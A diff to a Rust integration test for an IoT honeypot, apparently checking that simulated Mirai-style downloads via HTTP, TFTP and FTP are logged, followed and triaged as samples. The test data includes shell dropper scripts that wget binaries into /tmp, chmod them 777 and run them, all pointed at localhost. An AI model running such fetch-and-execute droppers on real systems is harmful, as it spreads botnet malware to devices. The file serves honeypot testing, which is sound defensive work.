@@ -58,6 +58,7 @@ fn downloads_become_triaged_samples() {
     );
     let sh4 = elf(Arch::Sh4, "sh4");
     let ppc = elf(Arch::Ppc, "ppc");
+    let m68k = elf(Arch::M68k, "m68k");
     std::fs::create_dir_all(www.0.join("bins")).unwrap();
     for (name, b) in [
         ("mirai.arm7", &arm7),
@@ -65,6 +66,7 @@ fn downloads_become_triaged_samples() {
         ("mirai.x86", &x86),
         ("tftp.sh4", &sh4),
         ("ftp.ppc", &ppc),
+        ("follow.m68k", &m68k),
     ] {
         std::fs::write(www.0.join("bins").join(name), b).unwrap();
     }
@@ -72,6 +74,9 @@ fn downloads_become_triaged_samples() {
         "#!/bin/sh\ncd /tmp || cd /var/run\nfor a in arm7 mips x86; do wget http://127.0.0.1:{hp_port}/bins/mirai.$a -O m.$a; chmod 777 m.$a; ./m.$a scan; done\n"
     );
     std::fs::write(www.0.join("bins.sh"), &script).unwrap();
+    // A script the attacker fetches but never runs: followed anyway.
+    let follow = format!("#!/bin/sh\nwget http://127.0.0.1:{hp_port}/bins/follow.m68k -O /tmp/f\n");
+    std::fs::write(www.0.join("follow.sh"), &follow).unwrap();
     Command::new("chmod")
         .args(["-R", "a+rX"])
         .arg(&www.0)
@@ -155,7 +160,8 @@ fn downloads_become_triaged_samples() {
             || out.contains("wget: server returned error: HTTP/1.1 404"),
         "{out}"
     );
-    // Echo-dropped ELF (ARM hard-float).
+    bot.cmd(&format!("wget http://127.0.0.1:{hp_port}/follow.sh"));
+    // Echo-dropped ELF (ARM soft-float).
     let dropped = elf(Arch::Armel, "echo-dropped");
     bot.cmd(">upnp");
     for chunk in dropped.chunks(200) {
@@ -237,13 +243,61 @@ fn downloads_become_triaged_samples() {
     // Events.
     let db = hp.db();
     let count = |sql: &str| -> i64 { db.query_row(sql, [], |r| r.get(0)).unwrap() };
-    assert_eq!(
-        count("SELECT count(*) FROM events WHERE eventid = 'iotpot.download.success'"),
-        6
+    // Every URL was fetched (some twice: the downloader follows bins.sh on
+    // its own while the attacker runs it).
+    let fetched: std::collections::BTreeSet<String> = db
+        .prepare("SELECT json_extract(data, '$.url') FROM events WHERE eventid = 'iotpot.download.success'")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    let failed: Vec<String> = db
+        .prepare("SELECT data FROM events WHERE eventid = 'iotpot.download.failed'")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    for u in [
+        "bins.sh",
+        "bins/mirai.arm7",
+        "bins/mirai.mips",
+        "bins/mirai.x86",
+        "follow.sh",
+        "bins/follow.m68k",
+    ] {
+        assert!(
+            fetched.contains(&format!("http://127.0.0.1:{hp_port}/{u}")),
+            "{u} not fetched: {fetched:?} {failed:?}"
+        );
+    }
+    assert!(
+        fetched.contains(&format!("tftp://127.0.0.1:{tftp_port}/tftp.sh4")),
+        "{fetched:?}"
+    );
+    assert!(
+        fetched.iter().any(|u| u.starts_with("ftp://")),
+        "{fetched:?}"
     );
     assert!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.download.failed' AND data LIKE '%refused address%'") >= 6);
+    // New content is triaged once: 5 fetched ELFs, 2 scripts, the followed
+    // m68k ELF, the echo-dropped ELF.
     assert_eq!(
         count("SELECT count(*) FROM events WHERE eventid = 'iotpot.sample.triaged'"),
-        7
+        9
     );
+    let parent: String = db
+        .query_row(
+            "SELECT json_extract(data, '$.parent') FROM events WHERE eventid = 'iotpot.download.success' AND data LIKE '%follow.m68k%'",
+            [],
+            |r| r.get(0),
+        )
+        .unwrap();
+    assert_eq!(
+        parent,
+        sha(follow.as_bytes()),
+        "the followed file records its script"
+    );
+    assert_eq!(arch_of(&m68k), Some("m68k".into()));
 }
